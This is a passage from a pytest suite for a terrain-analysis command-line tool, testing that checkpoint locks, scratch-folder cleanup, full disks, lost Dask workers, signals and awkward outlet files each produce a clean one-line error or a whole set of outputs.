    ck = tmp_path / "ck.npz"
    procs = [subprocess.Popen(QUICK_CLI + ["depressions", str(d), "-o", str(tmp_path / f"o{k}"), "--rmse",
                                     "1", "-n", "60", "--workers", "1", "-q", "--block", "64",
                                     "--checkpoint", str(ck)], stderr=subprocess.PIPE, text=True)
             for k, d in enumerate(dems)]
    results = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
    codes = sorted(c for c, _ in results)
    assert codes == [0, 2], results
    err = next(e for c, e in results if c == 2)
    no_traceback(err)
    one_line_error(2, err, "ck.npz", "another cairn run is using this checkpoint")
    winner = next(k for k, (c, _) in enumerate(results) if c == 0)
    assert outputs_of(tmp_path / f"o{1 - winner}") == []
    import json

    run = json.loads((tmp_path / f"o{winner}" / "run.json").read_text())
    assert run["input"]["path"] == str(dems[winner])


# -- 8. scratch folders belong to a lock, not a process number ----------------------------------------
_HOLD_SCRATCH = """
import os, sys, time
from terrain.io import scratch_folder
with scratch_folder(sys.argv[1]) as f:
    open(os.path.join(f, "dem.npy"), "wb").write(b"live run's data")
    print(f, flush=True)
    time.sleep(120)
"""


def test_a_live_runs_scratch_survives_any_sweep(tmp_path, outside):
    from terrain.io import SCRATCH_PREFIX, remove_orphan_scratch

    parent = tmp_path / "tmp"
    parent.mkdir()
    holder = subprocess.Popen([sys.executable, "-c", _HOLD_SCRATCH, str(parent)],
                              stdout=subprocess.PIPE, text=True)
    try:
        live = holder.stdout.readline().strip()
        assert os.path.isdir(live)
        # as seen from another namespace or machine: its process number means nothing there
        moved = str(parent / f"{SCRATCH_PREFIX}999999-elsewhere")
        os.rename(live, moved)
        (parent / f"{SCRATCH_PREFIX}1-nolock").mkdir()  # no lock file: not provably dead
        (parent / f"{SCRATCH_PREFIX}2-link").symlink_to(outside)
        (parent / f"{SCRATCH_PREFIX}3-file").write_text("someone's file\n")
        before = tree(outside)
        assert remove_orphan_scratch(parent) == []
        assert os.path.isdir(moved) and (parent / f"{SCRATCH_PREFIX}1-nolock").is_dir()
        assert tree(outside) == before
    finally:
        holder.kill()  # kill -9: the lock goes with the process
        holder.wait()
    assert remove_orphan_scratch(parent) == [moved]
    assert sorted(p.name for p in parent.iterdir()) == [f"{SCRATCH_PREFIX}{k}" for k in
                                                        ("1-nolock", "2-link", "3-file")]
    assert tree(outside) == before


@pytest.mark.slow
def test_a_killed_blocked_runs_scratch_is_swept_by_the_next(tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    dem = write_tif(tmp_path / "d.tif", smooth_terrain((300, 300), seed=2))
    p = subprocess.Popen(QUICK_CLI + ["depressions", str(dem), "-o", str(tmp_path / "o"), "--rmse", "1",
                                "-n", "50", "--workers", "1", "-q", "--block", "64"])
    deadline = time.time() + 120
    while time.time() < deadline and not list((tmp_path / "tmp").glob("cairn-blocks-*/dem.npy")):
        time.sleep(0.05)
    p.kill()
    p.wait()
    assert list((tmp_path / "tmp").glob("cairn-blocks-*"))
    small = write_tif(tmp_path / "s.tif", smooth_terrain((40, 40), seed=2))
    r = subprocess.run(QUICK_CLI + ["depressions", str(small), "-o", str(tmp_path / "o2"), "--rmse", "1",
                              "-n", "2", "--workers", "1", "-q", "--block", "16"],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    assert not list((tmp_path / "tmp").iterdir())


# -- 9. scratch space is checked; a full disk is one line ---------------------------------------------
def test_scratch_space_is_checked_before_a_blocked_run(cairn, tmp_path, monkeypatch):
    import terrain.io._base as io_base
    import terrain.io.rasters as io_rasters

    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    dem = write_tif(tmp_path / "d.tif", smooth_terrain((60, 60), seed=2))
    called = []
    real_read = io_rasters._read_to_disk
    monkeypatch.setattr(io_rasters, "_read_to_disk",
                        lambda *a, **k: called.append(1) or real_read(*a, **k))
    free = {str(tmp_path / "tmp"): 10 * 2**20, str(tmp_path): 10 * 2**40}
    monkeypatch.setattr(io_base, "_free_bytes", lambda folder: free.get(str(folder), 10 * 2**40))
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16")
    one_line_error(code, err, str(tmp_path / "tmp"), "TMPDIR", "MiB", "is free", "--bbox")
    assert not called and outputs_of(tmp_path / "o") == []
    assert not list((tmp_path / "tmp").iterdir())
    # the counts kept beside a checkpoint are checked where they go
    free[str(tmp_path / "tmp")] = 10 * 2**40
    free[str(tmp_path / "cks")] = 10 * 2**20
    (tmp_path / "cks").mkdir()
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16",
                         "--checkpoint", tmp_path / "cks" / "ck.npz")
    one_line_error(code, err, str(tmp_path / "cks"), "checkpoint", "--checkpoint")
    assert not called


def test_a_huge_raster_needing_more_scratch_than_the_disk_has_is_refused(cairn, tmp_path):
    # 150000 x 150000 float32 (a header, no pixels): ~270 GB of scratch files in blocked mode
    from terrain.io import free_bytes, scratch_parent

    p = tmp_path / "huge.tif"
    with rasterio.open(p, "w", driver="GTiff", width=150000, height=150000, count=1,
                       dtype="float32", tiled=True, sparse_ok=True, crs="EPSG:32633",
                       transform=_affine(10, 0, 0, 0, -10, 2e6)):
        pass
    if free_bytes(scratch_parent()) > 300 * 2**30:
        pytest.skip("this machine has the room")
    t = time.time()
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN, "--block", "1024", "--force")
    one_line_error(code, err, "GiB of free space", "GiB is free", "TMPDIR")
    assert time.time() - t < 60
    nothing_written(tmp_path / "o")


def test_a_tmpdir_that_is_not_a_folder_is_refused(cairn, dem, tmp_path, monkeypatch):
    monkeypatch.setenv("TMPDIR", str(tmp_path / "missing"))
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16")
    one_line_error(code, err, "TMPDIR=", "missing", "not a writable folder")
    nothing_written(tmp_path / "o")


_SKIP_SPACE_CHECK = ("import terrain.io.scratch as io, terrain.resources as r, cairn_cli.execute as e; "
                     "e.check_disk = lambda *a, **k: None; io.check_scratch_space = "
                     "lambda *a, **k: None; from cairn_cli.main import main; main()")


@pytest.mark.slow
@pytest.mark.parametrize("size,checkpoint", [("96k", False), ("400k", False), ("600k", True)])
def test_a_full_tmpdir_during_a_blocked_run_is_one_line(tmp_path, size, checkpoint):
    # a real full file system (a tmpfs in a private mount namespace) under TMPDIR, the space
    # check bypassed: every write there -- DEM, labels, realisation, counts -- fails in one line
    if not _can_mount_tmpfs(tmp_path):
        pytest.skip("cannot mount a tmpfs here (needs unshare -rm)")
    dem = write_tif(tmp_path / "dem.tif", smooth_terrain((150, 150), seed=1))
    full = tmp_path / "full"
    full.mkdir()
    ck = f"--checkpoint {full}/ck.npz" if checkpoint else ""
    run = " ".join(f"'{a}'" for a in [sys.executable, "-c", _SKIP_SPACE_CHECK])
    script = (f"mount -t tmpfs -o size={size} tmpfs {full} && export TMPDIR={full} && "
              f"{run} depressions {dem} -o {tmp_path}/o --rmse 1 -n 3 --workers 1 -q --block 32 "
              f"{ck}; echo rc=$?; ls -A {full}")
    r = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True, text=True,
                       timeout=300)
    no_traceback(r.stderr)
    one_line_error(2, r.stderr, "disk full", str(full))
    assert "rc=2" in r.stdout, (r.stdout, r.stderr)  # not a bus error (135)
    left = r.stdout.split("rc=2", 1)[1].split()
    assert [x for x in left if x.startswith("cairn-blocks") or x.startswith(".cairn")] == [], left
    assert not (tmp_path / "o").exists()


# -- 10. the guard counts the correlated error's kernel ----------------------------------------------
@pytest.mark.parametrize("cmd", ["peaks", "depressions", "catchments"])
@pytest.mark.parametrize("rng", ["1e9", "5000", "601"])
def test_a_correlation_range_longer_than_the_grid_is_refused(cairn, dem, tmp_path, cmd, rng):
    # the 40 x 40 test grid of 10 m cells is 400 m across
    t = time.time()
    code, _, err = cairn(cmd, dem, "-o", tmp_path / "o", *RUN, "--range", rng)
    no_traceback(err)
    one_line_error(code, err, "dem.tif", "--range", "longer than the grid's extent (400 m)",
                   "at most 400 m")
    assert time.time() - t < 30
    nothing_written(tmp_path / "o")


def test_a_range_as_long_as_the_grid_runs(cairn, dem, tmp_path):
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--range", "400")
    assert code == 0, err


def test_the_guard_counts_the_kernel(cairn, dem, tmp_path, monkeypatch):
    import tracemalloc

    import terrain.resources as r
    from terrain.io import read_header
    from terrain.jobs import CreditJob
    from terrain.noise import ErrorModel
    from terrain.noise.fields import ConvolutionKernel, kernel_memory

    head = read_header(dem)
    job = CreditJob("peaks")
    plain = r.estimate_run(head, job, model=ErrorModel(rmse=1))
    wide = r.estimate_run(head, job, model=ErrorModel(rmse=1, range_m=400))
    assert wide.kernel > 0 and wide.total >= plain.total + wide.kernel // 2
    # the stated figures bound a real kernel: its radius, and what computing it takes
    for model in ("exponential", "gaussian", "spherical"):
        for rng, spacing in ((35.0, (10.0, 10.0)), (400.0, (10.0, 7.0)), (2000.0, (30.0, 30.0))):
            build, kept, _ = kernel_memory(spacing, rng, (500, 500))
            tracemalloc.start()
            k = ConvolutionKernel(spacing, model, rng)
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            assert peak <= build and k.k.nbytes <= kept, (model, rng, peak, build)
    monkeypatch.setattr(r, "available_bytes", lambda: wide.kernel - 1)
    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--range", "400")
    one_line_error(code, err, "kernel", "--range 400 m", "shorter --range")
    nothing_written(tmp_path / "o")


# -- 11. Dask: one line, never a hang -------------------------------------------------------------------
WAIT = 3  # seconds a cluster may stay without workers in these tests (WORKER_WAIT_SECONDS)
# the CLI with a short worker wait and a checkpoint every 10 realisations (not 50), so the
# runs below reach their first checkpoint in a fifth of the time; these runs end before
# any figure, so nothing is drawn or prepared for drawing (stand-ins)


def _dask_cli(wait: float = WAIT) -> list[str]:
    return cli_command(checkpoint_every=10, worker_wait=wait, stand_in_figures=True)


_DASK_CLI = _dask_cli()


def _free_port():
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class _Cluster:
    """A Dask scheduler and workers in processes of their own, as on a real cluster."""

    def __init__(self, workers: int):
        dask = os.path.join(os.path.dirname(sys.executable), "dask")
        self.port = _free_port()
        self.address = f"tcp://127.0.0.1:{self.port}"
        quiet = dict(stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.scheduler = subprocess.Popen([dask, "scheduler", "--port", str(self.port),
                                           "--no-dashboard"], **quiet)
        self.workers = [subprocess.Popen([dask, "worker", self.address, "--nthreads", "1",
                                          "--no-dashboard", "--no-nanny"], **quiet)
                        for _ in range(workers)]
        from distributed import Client

        deadline = time.time() + 60
        while True:
            try:
                with Client(self.address, timeout="5s") as c:
                    if workers:
                        c.wait_for_workers(workers, timeout=30)
                break
            except Exception:
                if time.time() > deadline:
                    raise
                time.sleep(0.5)

    def close(self):
        for p in self.workers + [self.scheduler]:
            p.kill()
            p.wait()


@pytest.fixture
def cluster(request):
    c = _Cluster(request.param)
    yield c
    c.close()


@pytest.mark.slow
@pytest.mark.parametrize("cluster", [0], indirect=True)
@pytest.mark.parametrize("block", [(), ("--block", "32")])
def test_a_scheduler_without_workers_is_one_line(tmp_path, cluster, block):
    dem = write_tif(tmp_path / "d.tif", smooth_terrain((60, 60), seed=1))
    t = time.time()
    r = subprocess.run(_DASK_CLI + ["depressions", str(dem), "-o", str(tmp_path / "o"), "--rmse",
                                    "1", "-n", "4", "-q", "--scheduler", cluster.address, *block],
                       capture_output=True, text=True, timeout=120)
    no_traceback(r.stderr)
    one_line_error(r.returncode, r.stderr, cluster.address, "has no workers", f"within {WAIT} s",
                   "--scheduler")
    assert time.time() - t < WAIT + 40
    nothing_written(tmp_path / "o")


def _start_dask_run(tmp_path, cluster, *extra, wait: float = WAIT):
    side = 96 if "--block" in extra else 200  # the first checkpoint (10 realisations) comes soon
    dem = write_tif(tmp_path / "d.tif", smooth_terrain((side, side), seed=4))
    ck = tmp_path / "ck.npz"
    p = subprocess.Popen(_dask_cli(wait) + [*extra, str(dem), "-o", str(tmp_path / "o"), "--rmse", "1",
                                      "-q", "--scheduler", cluster.address, "--checkpoint",
                                      str(ck)], stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 240
    while not ck.exists() and time.time() < deadline and p.poll() is None:
        time.sleep(0.1)  # the first checkpoint: 10 realisations done
    assert ck.exists(), p.stderr.read() if p.poll() is not None else "no checkpoint"
    return p, ck


RUNS = {"whole": ("peaks", "-n", "5000"),
        "blocked": ("depressions", "-n", "5000", "--block", "48")}


@pytest.mark.slow
@pytest.mark.parametrize("cluster", [1], indirect=True)
@pytest.mark.parametrize("mode", ["whole", "blocked"])
@pytest.mark.parametrize("lost", ["the only worker", "the scheduler"])
def test_a_lost_worker_or_scheduler_is_one_line(tmp_path, cluster, mode, lost):
    p, ck = _start_dask_run(tmp_path, cluster, *RUNS[mode])
    t = time.time()
    (cluster.workers[0] if lost == "the only worker" else cluster.scheduler).kill()
    _, err = p.communicate(timeout=WAIT + 60)
    no_traceback(err)
    one_line_error(p.returncode, err, cluster.address, "--resume",
                   "lost the Dask scheduler" if lost == "the scheduler" else "worker")
    assert time.time() - t < WAIT + 30
    assert ck.exists()  # what was done is saved
    nothing_written(tmp_path / "o")


@pytest.mark.slow
@pytest.mark.parametrize("cluster", [1], indirect=True)
@pytest.mark.parametrize("sig,code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_ctrl_c_and_sigterm_end_a_run_whose_workers_left(tmp_path, cluster, sig, code):
    # a long worker wait, so that only the signal can end the run within the 10 s below
    # (with the usual 3 s, a busy machine could let the wait end it first)
    p, ck = _start_dask_run(tmp_path, cluster, *RUNS["blocked"], wait=30)
    cluster.workers[0].kill()  # the run now waits for workers: a signal must still end it
    time.sleep(1)
    t = time.time()
    p.send_signal(sig)
    _, err = p.communicate(timeout=30)
    assert p.returncode == code, err
    no_traceback(err)
    assert time.time() - t < 10
    lines = said(err)
    assert "saved" in err and "--resume" in err and len(lines) == 1, err
    assert ck.exists()


# -- 12. outlets whose names or attributes are awkward -------------------------------------------------
@pytest.mark.real_figures
@pytest.mark.parametrize("ids", [
    ["$\\frac{a}{$", "$x$", "50$ gauge"],  # matplotlib math text, broken and whole
    ["Quelle \u6e90", "\u2603 snow", "\U0001f30a wave"],  # glyphs the map's font lacks
])
def test_outlet_ids_are_drawn_as_text(cairn, proj, tmp_path, ids):
    import csv

    src = tmp_path / "awkward.csv"
    with open(src, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "x", "y", "label"])
        for k, i in enumerate(ids):
            w.writerow([i, 500105 + 80 * k, 6799705 + 40 * k, i])
    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", src, "-o", tmp_path / "o",
                         *RUN)
    assert code == 0, err
    assert "Glyph" not in err and "Traceback" not in err
    from matplotlib.image import imread

    assert imread(tmp_path / "o" / "quicklook.png").std() > 0
    with open(tmp_path / "o" / "outlets.csv", newline="") as fh:
        assert [row["outlet_id"] for row in csv.DictReader(fh)] == ids


@pytest.mark.parametrize("header", [
    "id,x,y,input_x,X,outlet_id,input_outlet_id,Outlet_ID",
    "id,x,y,fid,FID,geometry,GEOM,area_m2,Area_M2,input_area_m2",
])
def test_outlet_attributes_clashing_with_cairns_columns_all_travel(cairn, proj, tmp_path, header):
    import csv

    import pyogrio

    src = tmp_path / "clash.csv"
    cols = header.split(",")
    with open(src, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(cols)
        for k in range(2):
            w.writerow([f"g{k}", 500105 + 80 * k, 6799705 + 40 * k] +
                       [f"{c}-{k}" for c in cols[3:]])
    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", src, "-o", tmp_path / "o",
                         *RUN)
    assert code == 0, err
    for name in ("outlets", "catchments", "subcatchments"):
        with open(tmp_path / "o" / f"{name}.csv", newline="") as fh:
            row = next(csv.DictReader(fh))
        got = set(row.values())
        assert {f"{c}-0" for c in cols[3:]} <= got, (name, row)  # every attribute, once
        fields = pyogrio.read_info(tmp_path / "o" / "catchments.gpkg", layer=name)["fields"]
        assert len({f.lower() for f in fields}) == len(fields)


def test_cairns_own_outlets_table_fed_back_twice(cairn, proj, tmp_path):
    first = tmp_path / "a"
    assert cairn("catchments", proj / "dem.tif", "--outlets", proj / "outlets.csv", "-o", first,
                 *RUN)[0] == 0
    second = tmp_path / "b"
    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", first / "outlets.csv", "-o",
                         second, *RUN)
    assert code == 0, err
    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", second / "outlets.csv", "-o",
                         tmp_path / "c", *RUN)
    assert code == 0, err


# -- 13. every rough case is one line naming the option or file --------------------------------------
@pytest.mark.parametrize("block", ["9999999999", "200000", "41", "40"])
def test_a_block_larger_than_the_grid_is_the_grid(cairn, dem, tmp_path, block):
    import json

    ck = tmp_path / "ck.npz"
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", block,
                         "--checkpoint", ck)
    assert code == 0, err
    meta = json.loads((tmp_path / "ck.npz.counts" / "counts_0" / "zarr.json").read_text())
    assert meta["chunk_grid"]["configuration"]["chunk_shape"] == [40, 40]  # not block^2


@pytest.mark.parametrize("block", ["15", "0", "-3"])
def test_a_block_too_small_names_the_option(cairn, dem, tmp_path, block):
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", block)
    one_line_error(code, err, "--block", block)
    nothing_written(tmp_path / "o")


@pytest.mark.parametrize("first,then,needle", [((), ("--block", "16"), "without --block"),
                                               (("--block", "16"), (), "with --block")])
def test_resuming_in_the_other_mode_names_the_file_and_block(cairn, dem, tmp_path, first, then,
                                                            needle):
    ck = tmp_path / "ck.npz"
    assert cairn("depressions", dem, "-o", tmp_path / "a", *RUN, *first, "--checkpoint", ck)[0] == 0
    code, _, err = cairn("depressions", dem, "-o", tmp_path / "b", *RUN, "-n", "6", *then,
                         "--checkpoint", ck, "--resume")
    no_traceback(err)
    one_line_error(code, err, "ck.npz", needle)
    nothing_written(tmp_path / "b")


def test_resuming_with_another_error_model_says_what_differs(cairn, dem, tmp_path):
    ck = tmp_path / "ck.npz"
    assert cairn("peaks", dem, "-o", tmp_path / "a", *RUN, "--checkpoint", ck)[0] == 0
    for args, needle in ((("--rmse", "2"), "rmse 1.0, now 2.0"),
                         (("--rmse", "1", "--range", "50"), "range_m 0.0, now 50.0"),
                         (("--rmse", "1", "--kernel", "uniform"), "kernel gaussian, now uniform")):
        code, _, err = cairn("peaks", dem, "-o", tmp_path / "b", *args, "-n", "6", "--workers", "1",
                             "-q", "--checkpoint", ck, "--resume")
        one_line_error(code, err, "ck.npz", "another error model", needle, "--checkpoint")
        assert "{" not in err  # no Python dicts
    nothing_written(tmp_path / "b")


@pytest.mark.parametrize("cmd", [("peaks",), ("depressions", "--block", "16")])
def test_resuming_with_fewer_realisations_is_refused(cairn, dem, tmp_path, cmd):
    ck = tmp_path / "ck.npz"
    assert cairn(*cmd[:1], dem, "-o", tmp_path / "a", *RUN, *cmd[1:], "--checkpoint", ck)[0] == 0
    code, _, err = cairn(*cmd[:1], dem, "-o", tmp_path / "b", "--rmse", "1", "-n", "2",
                         "--workers", "1", "-q", *cmd[1:], "--checkpoint", ck, "--resume")
    one_line_error(code, err, "ck.npz", "holds 4 realisations", "--realisations 4")
    nothing_written(tmp_path / "b")


@pytest.mark.parametrize("fmt", ["geojson", "gpkg-declared-wgs84"])
def test_projected_numbers_in_a_geographic_outlets_file(cairn, proj, tmp_path, fmt):
    import geopandas as gpd
    from shapely.geometry import Point

    pts = [Point(500105, 6799705), Point(500305, 6799805)]
    if fmt == "geojson":  # no crs member: WGS84 longitude/latitude by RFC 7946
        src = tmp_path / "gauges.geojson"
        import json

        src.write_text(json.dumps({"type": "FeatureCollection", "features": [
            {"type": "Feature", "properties": {"id": f"g{k}"},
             "geometry": {"type": "Point", "coordinates": [p.x, p.y]}}
            for k, p in enumerate(pts)]}))
    else:
        src = tmp_path / "gauges.gpkg"
        gpd.GeoDataFrame({"id": ["g0", "g1"]}, geometry=pts, crs="EPSG:4326").to_file(src)
    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", src, "-o", tmp_path / "o",
                         *RUN)
    no_traceback(err)
    one_line_error(code, err, src.name, "not a longitude/latitude", "WGS 84")
    nothing_written(tmp_path / "o")


@pytest.mark.parametrize("value", [1e300, -1e300, 1e39])
def test_finite_values_too_large_for_an_elevation(cairn, tmp_path, value):
    z = smooth_terrain((30, 30), seed=3).astype(np.float64)
    z[4, 5] = value
    p = write_tif(tmp_path / "huge-values.tif", z)
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    assert code == 0, err
    assert "NaN or infinite" not in err and "RuntimeWarning" not in err
    lines = [x for x in err.splitlines() if "too large for an elevation" in x]
    assert len(lines) == 1 and "1 cells" in lines[0] and "--nodata" in lines[0], err
    with rasterio.open(tmp_path / "o" / "summit_credit.tif") as ds:
        assert np.isnan(ds.read(1)[4, 5]) and np.isfinite(ds.read(1)[5, 5])


@pytest.mark.parametrize("north,ok", [(90.3, False), (-89.8, False), (90.005, True), (60.0, True)])
def test_a_geographic_grid_beyond_a_pole_is_refused(cairn, tmp_path, north, ok):
    from rasterio.transform import from_origin

    # 40 rows of 0.01 degrees from the given northern edge (cell centres 0.005 inside it)
    p = write_tif(tmp_path / "geo.tif", smooth_terrain((40, 40), seed=6), crs="EPSG:4326",
                  transform=from_origin(10.0, north, 0.01, 0.01))
    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN)
    if ok:
        assert code == 0, err
        return
    no_traceback(err)
    one_line_error(code, err, "geo.tif", "latitude", "beyond the pole")
    nothing_written(tmp_path / "o")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="signal timing")
@pytest.mark.parametrize("delay", [0.3, 0.7, 1.2, 2.0])
def test_ctrl_c_while_cairn_starts(tmp_path, delay):
    dem = write_tif(tmp_path / "d.tif", smooth_terrain((40, 40), seed=1))
    # Python's fault handler on: a run that hangs is sent SIGABRT and every thread's
    # stack comes back in the failure (one hang in ~200 tries was seen, not reproduced)
    p = subprocess.Popen(CLI + ["peaks", str(dem), "-o", str(tmp_path / "o"), *RUN],
                         stderr=subprocess.PIPE, text=True,
                         env={**os.environ, "PYTHONFAULTHANDLER": "1"})
    time.sleep(delay)
    p.send_signal(signal.SIGINT)
    try:
        _, err = p.communicate(timeout=60)
    except subprocess.TimeoutExpired:
        p.send_signal(signal.SIGABRT)
        _, err = p.communicate(timeout=30)
        pytest.fail(f"still running 60 s after one Ctrl-C; its threads:\n{err}")
    no_traceback(err)
    if p.returncode == 0:  # it finished first (a fast machine): nothing to check
        return
    assert p.returncode == 130, err
    lines = said(err)
    assert len(lines) == 1 and lines[0].startswith("cairn: interrupted"), err
    # nothing half-written: none of the outputs, or (a Ctrl-C during the publication, which
    # waits for its renames and says so, or just after it) all of them
    out = tmp_path / "o"
    names = {n for n in os.listdir(out) if not n.startswith(".")} if out.exists() else set()
    assert names in (set(), _PEAKS_OUTPUTS), names


# A signal at a run's very end: while its output folder's lock is released (patched to send
# the signal to itself first), or during the interpreter's shutdown, after which signals with
# a Python handler have their default action back (an atexit hook sends it, then a thread
# still alive takes it late). Either way the finished run exits 0, its outputs whole and no
# lock left: it was never killed by the signal (exit -2 / -15, seen once in CI).
_PEAKS_OUTPUTS = {"col_credit.tif", "parents.csv", "peaks.gpkg", "quicklook.png", "ranking.png",
                  "ranks.csv", "run.json", "summit_credit.tif", "summit_probability.tif",
                  "summits.csv"}

_LATE_SIGNAL = ("import os, signal, sys, threading, time, atexit; "
                "import terrain.io.publication as p; u = p._unlock; "
                "p._unlock = lambda *a: (os.kill(os.getpid(), signal.{sig}), u(*a))[1]; "
                "late = lambda: (time.sleep(0.05), os.kill(os.getpid(), signal.{sig})); "
                "atexit.register(lambda: (os.kill(os.getpid(), signal.{sig}), "
                "threading.Thread(target=late).start())); "
                "from cairn_cli.main import main; main()")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="POSIX signals")
@pytest.mark.parametrize("sig", ["SIGINT", "SIGTERM"])
def test_a_signal_at_a_finished_runs_end_does_not_kill_it(tmp_path, sig):
    dem = write_tif(tmp_path / "d.tif", smooth_terrain((40, 40), seed=1))
    p = subprocess.run([sys.executable, "-c", _LATE_SIGNAL.format(sig=sig), "peaks", str(dem),
                        "-o", str(tmp_path / "o"), *RUN], capture_output=True, text=True,
                       timeout=120)
    assert p.returncode == 0, (p.returncode, p.stderr)
    no_traceback(p.stderr)
    names = sorted(os.listdir(tmp_path / "o"))
    assert "summit_credit.tif" in names and "run.json" in names and ".cairn.lock" not in names


@pytest.mark.parametrize("version", [1, 2])
def test_available_memory_respects_the_control_groups_limit(tmp_path, version):
    """A container's memory limit, which /proc/meminfo does not show, caps what the guard
    takes as available (Linux kernel documentation, "Control Group v2" and "Memory
    Resource Controller", 2024: memory.max / memory.current, memory.limit_in_bytes /
    memory.usage_in_bytes; inactive file pages can be reclaimed)."""
    from terrain.io.files import cgroup_memory_room

    proc = tmp_path / "cgroup"
    root = tmp_path / "fs"
    if version == 2:
        proc.write_text("0::/job/step\n")
        group, files, stat = root / "job" / "step", ("memory.max", "memory.current"), "inactive_file"
        (root / "job").mkdir(parents=True)
        (root / "job" / "memory.max").write_text("max\n")  # no limit above the step
    else:
        proc.write_text("4:memory:/job/step\n3:cpu:/job\n")
        group = root / "memory" / "job" / "step"
        files, stat = ("memory.limit_in_bytes", "memory.usage_in_bytes"), "total_inactive_file"
    group.mkdir(parents=True)
    (group / files[0]).write_text(f"{3 * 2**30}\n")
    (group / files[1]).write_text(f"{2 * 2**30}\n")
    (group / "memory.stat").write_text(f"anon 1\n{stat} {2**29}\n")
    assert cgroup_memory_room(str(proc), str(root)) == 3 * 2**30 - (2 * 2**30 - 2**29)
    (group / files[0]).write_text("max\n" if version == 2 else f"{2**63 - 4096}\n")
    assert cgroup_memory_room(str(proc), str(root)) is None  # no limit
    assert cgroup_memory_room(str(tmp_path / "missing"), str(root)) is None


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="POSIX signals")
@pytest.mark.parametrize("sig", ["SIGINT", "SIGTERM"])
def test_a_signal_during_the_publication_waits_and_says_the_outputs_are_whole(tmp_path, sig,
                                                                              monkeypatch):
    # Sent while the staged files are renamed into the folder, the signal waits for the
    # renames and the staging folder's removal, then is raised marked `published`: the
    # command once said "interrupted" over a whole set of outputs, and a signal just after
    # the renames left an empty staging folder behind (a red-team helper's finding)
    import terrain.io.publication as publication
    from terrain.errors import Terminated
    from terrain.io import staged_outputs

    signum = getattr(signal, sig)
    seen = []
    real = publication.replace_into

    def renamed(src, dst):
        if not seen:
            os.kill(os.getpid(), signum)  # its handler runs at once, between two bytecodes
        seen.append(dst)
        return real(src, dst)

    monkeypatch.setattr(publication, "replace_into", renamed)
    handler = signal.getsignal(signal.SIGTERM)
    signal.signal(signal.SIGTERM, lambda s, f: (_ for _ in ()).throw(Terminated()))
    out = tmp_path / "o"
    try:
        with pytest.raises(KeyboardInterrupt) as got:
            with staged_outputs(out) as stage:
                for name in ("a.csv", "b.csv", "c.csv"):
                    (stage / name).write_text(name)
    finally:
        signal.signal(signal.SIGTERM, handler)
    assert isinstance(got.value, Terminated) == (sig == "SIGTERM")
    assert got.value.published == str(out)
    assert len(seen) == 3  # every rename was done
    assert sorted(p.name for p in out.iterdir() if p.name != ".cairn.lock") == [
        "a.csv", "b.csv", "c.csv"]


def test_a_signal_while_writing_names_the_checkpoint_that_holds_the_realisations(tmp_path):
    # all realisations done and saved, the outputs not yet published: the one line says
    # nothing was written and where the realisations are (our own rule: no outside reference)
    import click

    from cairn_cli import common

    ck = tmp_path / "ck.npz"
    ck.write_bytes(b"x")
    with click.Context(click.Command("peaks"), info_name="peaks") as ctx:
        ctx.params["checkpoint"] = str(ck)
        assert common._kept(KeyboardInterrupt()) == (
            f"; nothing written. {ck} holds the realisations done: the same command plus "
            "--resume continues from it")
        done = KeyboardInterrupt()
        done.published = "out"
        assert common._kept(done) == " once its outputs were published in out (they are whole)"
        ck.unlink()
        assert common._kept(KeyboardInterrupt()) == ""


def test_a_run_waiting_on_a_pool_whose_manager_thread_is_stuck_sees_a_dead_worker():
    # A worker killed while it sends a result leaves the pool's manager thread reading the
    # rest of the message for ever, so the pool never marks its futures broken: a run
    # waiting on them alone hung (a held-out check, once). Simulated as above, with one
    # task out and its worker then killed: the wait ends with BrokenProcessPool.
    import concurrent.futures as cf
    import multiprocessing as mp
    import struct
    from concurrent.futures.process import BrokenProcessPool

    from terrain.runner.backends import result_watching, stop_pool

    pool = cf.ProcessPoolExecutor(max_workers=1, mp_context=mp.get_context("spawn"))
    writer = pool._result_queue._writer
    try:
        assert pool.submit(abs, -3).result(timeout=120) == 3  # the manager thread runs
        os.write(writer.fileno(), struct.pack("!i", 2**20) + b"x" * 10)
        time.sleep(0.3)  # the manager thread is now inside the read
        fut = pool.submit(time.sleep, 60)
        (proc,) = pool._processes.values()
        proc.kill()
        t = time.time()
        with pytest.raises(BrokenProcessPool):
            result_watching(pool, fut)
        assert time.time() - t < 5
        stop_pool(pool, {fut: 0}, broken=True)
    finally:
        if not writer.closed:
            writer.close()


# -- a folder holds one run: --overwrite with another command leaves no mixture ------------
def test_overwrite_with_another_command_leaves_one_run(cairn, dem, tmp_path, outside):
    # a depressions run published with --overwrite over a peaks run once left the peaks
    # layers and tables beside the depressions run.json, which no longer described them
    # (our own rule: no outside reference)
    import json

